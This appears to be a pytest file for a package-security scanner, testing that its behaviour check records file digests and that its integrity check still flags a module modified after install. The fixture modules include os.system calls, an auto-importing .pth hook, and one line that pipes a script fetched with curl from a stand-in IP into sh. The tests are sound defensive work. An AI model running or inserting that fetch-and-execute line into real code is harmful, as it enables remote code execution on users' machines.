"""The behaviour check leaves the digests of the Python files it read whole on the tree,
so the integrity check after it does not inflate them again: the digests are the files'
own, and a file modified after install is still reported."""

from __future__ import annotations

import hashlib
from pathlib import Path

from behaviourkit import installed, zip_file

from wellcheck.artifact import open_artifact
from wellcheck.artifact.limits import DEFAULT_LIMITS
from wellcheck.checks import CheckContext
from wellcheck.inventory import collect
from wellcheck.models import Finding
from wellcheck.scan.target import scan_artifacts
from wellcheck.signals.behaviour import BehaviourCheck
from wellcheck.signals.behaviour.budget import Bounds
from wellcheck.signals.behaviour.files import plan_tree
from wellcheck.signals.behaviour.work import Background, run_jobs
from wellcheck.signals.integrity import IntegrityCheck
from wellcheck.signals.integrity_hashing import zip_reopener

ROOTS = ("", "python")


def _files() -> dict[str, bytes]:
    modules = {
        f"many/m{i:03}.py": f"import os\ndef f{i}():\n    os.system('id {i}')\n".encode()
        for i in range(150)
    }
    modules["many/__init__.py"] = b"import subprocess\nsubprocess.run(['true'])\n"
    modules["many/data.bin"] = b"\x00" * 100
    modules["many/hook.pth"] = b"import many\n"
    return installed("many", "1.0", modules)


def _digest(data: bytes) -> tuple[str, int]:
    return hashlib.sha256(data).hexdigest(), len(data)


def test_the_check_leaves_the_digests_of_the_python_files_it_read(tmp_path: Path) -> None:
    files = _files()
    artifact = zip_file(tmp_path / "a.zip", files)
    with open_artifact(str(artifact), DEFAULT_LIMITS) as opened:
        tree = opened.trees[0]
        context = CheckContext(artifact=opened.info, trees=tuple(opened.trees))
        BehaviourCheck(workers=1).run(collect(tree), context)
        sources = {path: _digest(data) for path, data in files.items() if path.endswith(".py")}
        assert dict(tree.known_digests()) == sources


def test_the_background_process_gives_the_serial_digests(tmp_path: Path) -> None:
    artifact = zip_file(tmp_path / "a.zip", _files())
    with open_artifact(str(artifact), DEFAULT_LIMITS) as opened:
        tree = opened.trees[0]
        reopen = zip_reopener(tree, str(artifact), DEFAULT_LIMITS)
        assert reopen is not None
        components = collect(tree)
        jobs = plan_tree(tree, components, ROOTS).jobs
        serial: dict[str, tuple[str, int]] = {}
        run_jobs(tree, jobs, Bounds(), serial)
        background = Background.start(reopen, components, ROOTS, Bounds(), jobs=jobs)
        assert background is not None
        shared: dict[str, tuple[str, int]] = {}
        background.take(tree, jobs, Bounds(), shared)
        assert shared == serial


def _integrity(findings: tuple[Finding, ...]) -> list[tuple[str, str, str]]:
    return sorted((f.rule, f.title, f.evidence) for f in findings if f.kind == "integrity")


def test_a_python_file_modified_after_install_is_still_reported(tmp_path: Path) -> None:
    files = _files()
    files["many/m007.py"] = b"import os\nos.system('curl http://203.0.113.7/x | sh')\n"
    artifact = str(zip_file(tmp_path / "a.zip", files))
    [alone] = scan_artifacts([artifact], [IntegrityCheck(workers=1)]).results
    checks = [BehaviourCheck(workers=1), IntegrityCheck(workers=1)]
    [after] = scan_artifacts([artifact], checks).results
    assert _integrity(after.findings) == _integrity(alone.findings)
    assert any(
        f.rule == "WC-INTEG-MODIFIED" and "many/m007.py" in f.title
        for f in after.findings
        if f.kind == "integrity"
    )
